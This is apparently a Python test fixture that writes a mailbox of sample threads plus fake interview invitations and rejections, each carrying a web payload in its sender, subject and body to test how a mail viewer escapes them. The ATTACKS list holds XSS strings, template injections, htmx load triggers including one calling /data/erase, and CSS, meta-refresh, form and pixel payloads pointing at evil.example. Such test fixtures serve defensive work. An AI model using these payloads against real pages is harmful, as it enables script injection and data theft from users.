"""A small mailbox to show on pages: some threads of the sample, and mails that attack whoever shows them."""

from __future__ import annotations

import mailbox
from collections.abc import Iterable
from email.headerregistry import Address
from email.message import EmailMessage
from pathlib import Path

from comeback import sample
from tests.web.xss import HTML

THREADS = ("ferrantlisle", "quillonsearch", "saltonbury-print", "harbourcharts", "Marchebout", "carrowbeg", "Rota for February", "Re: well")
"""Words by which the mails of these threads are known."""

ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "'\"><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "javascript:alert(1)//\"'--></title></textarea></style></script><script>alert(1)</script>",
    "{{7*7}}{% raw %}${alert(1)}<%= alert(1) %>",
    "</textarea><script>alert(1)</script>",
    '<a href="javascript:alert(1)">x</a><base href=//evil.example/>',
    "<style>@import '//evil.example/x.css';body{background:url(//evil.example/x.png)}</style>",
    '<meta http-equiv=refresh content="0;url=//evil.example/">',
    "<form action=//evil.example/><button>x</button><input name=csrfmiddlewaretoken>",
    '<img src="//evil.example/pixel.gif" width=1>',
    '" hx-get="//evil.example/" hx-trigger="load" x="',
    "<div hx-get=/data/erase hx-trigger=load hx-on::load=alert(1)>x</div>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "\u202eevil\u202c\u0000\u001b]0;x\u0007<b onmouseover=alert(1)>x</b>",
)

FIRMS = (
    "alderworks",
    "birchall",
    "cedarline",
    "dogwoodco",
    "elmstead",
    "fernleigh",
    "gorsebank",
    "hazelmere",
    "ivybridge",
    "junipers",
    "kelpford",
    "larchfield",
    "maplecote",
    "nettleton",
    "oakhanger",
    "poplarly",
)
"""Whose mails they are, one for each attack."""


def write(path: Path) -> Path:
    """The threads, and a rejection after an interview for each attack, as one mbox."""
    box = mailbox.mbox(path, create=True)
    given = mailbox.mbox(sample.mailbox(), create=False)
    for mail in given:
        if any(word in f"{mail['From']} {mail['To']} {mail['Cc']} {mail['Subject']}" or word in str(mail) for word in THREADS):
            box.add(mail)
    given.close()
    for attack in hostile():
        box.add(attack)
    box.close()
    return path


def hostile() -> Iterable[EmailMessage]:
    """For each attack an invitation and a no, with it in every place that a page shows."""
    for at, attack in enumerate(ATTACKS):
        clean = " ".join("".join(ch for ch in attack if ch.isprintable() or ch in "\u202e\u202c").split())
        yield _mail(
            at,
            clean,
            27,
            "Interview",
            f"Dear Sorcha,\n\nWe would like to invite you to an interview on Friday 29 May at 10:00.\n\n{attack}",
        )
        no = "Thank you for coming in. I am sorry to say that we have chosen another candidate."
        told = f"Dear Sorcha,\n\n{no}\n\n{attack}\n\nKind regards,\n{clean}"
        yield _mail(at, clean, 39, "Re: Interview", told)


def refusals() -> Iterable[tuple[str, str]]:
    """The Message-ID of each attack's no, and whose it is."""
    return ((f"<39.{at}@{firm}.example>", firm) for at, firm in enumerate(FIRMS[: len(ATTACKS)]))


def _mail(at: int, attack: str, day: int, subject: str, text: str) -> EmailMessage:
    mail = EmailMessage()
    host = f"{FIRMS[at]}.example"
    mail["From"] = Address(attack[:200], "panel", host)
    mail["To"] = "Sorcha Delahunt <sorcha.delahunt@quaymail.example>"
    mail["Subject"] = f"{subject}: {attack}"[:300]
    when = f"{day - 31 if day > 31 else day} {'Jun' if day > 31 else 'May'} 2026"
    mail["Date"] = f"{when} 10:{at:02}:00 +0100"
    mail["Message-ID"] = f"<{day}.{at}@{host}>"
    if day > 31:
        mail["In-Reply-To"] = f"<27.{at}@{host}>"
    mail.set_content(text.replace("\x00", ""))
    # The same as HTML, the attack as it is; beside it one that only HTML can make.
    mail.add_alternative(f"<p>{text}</p>{HTML[at]}", subtype="html")
    return mail
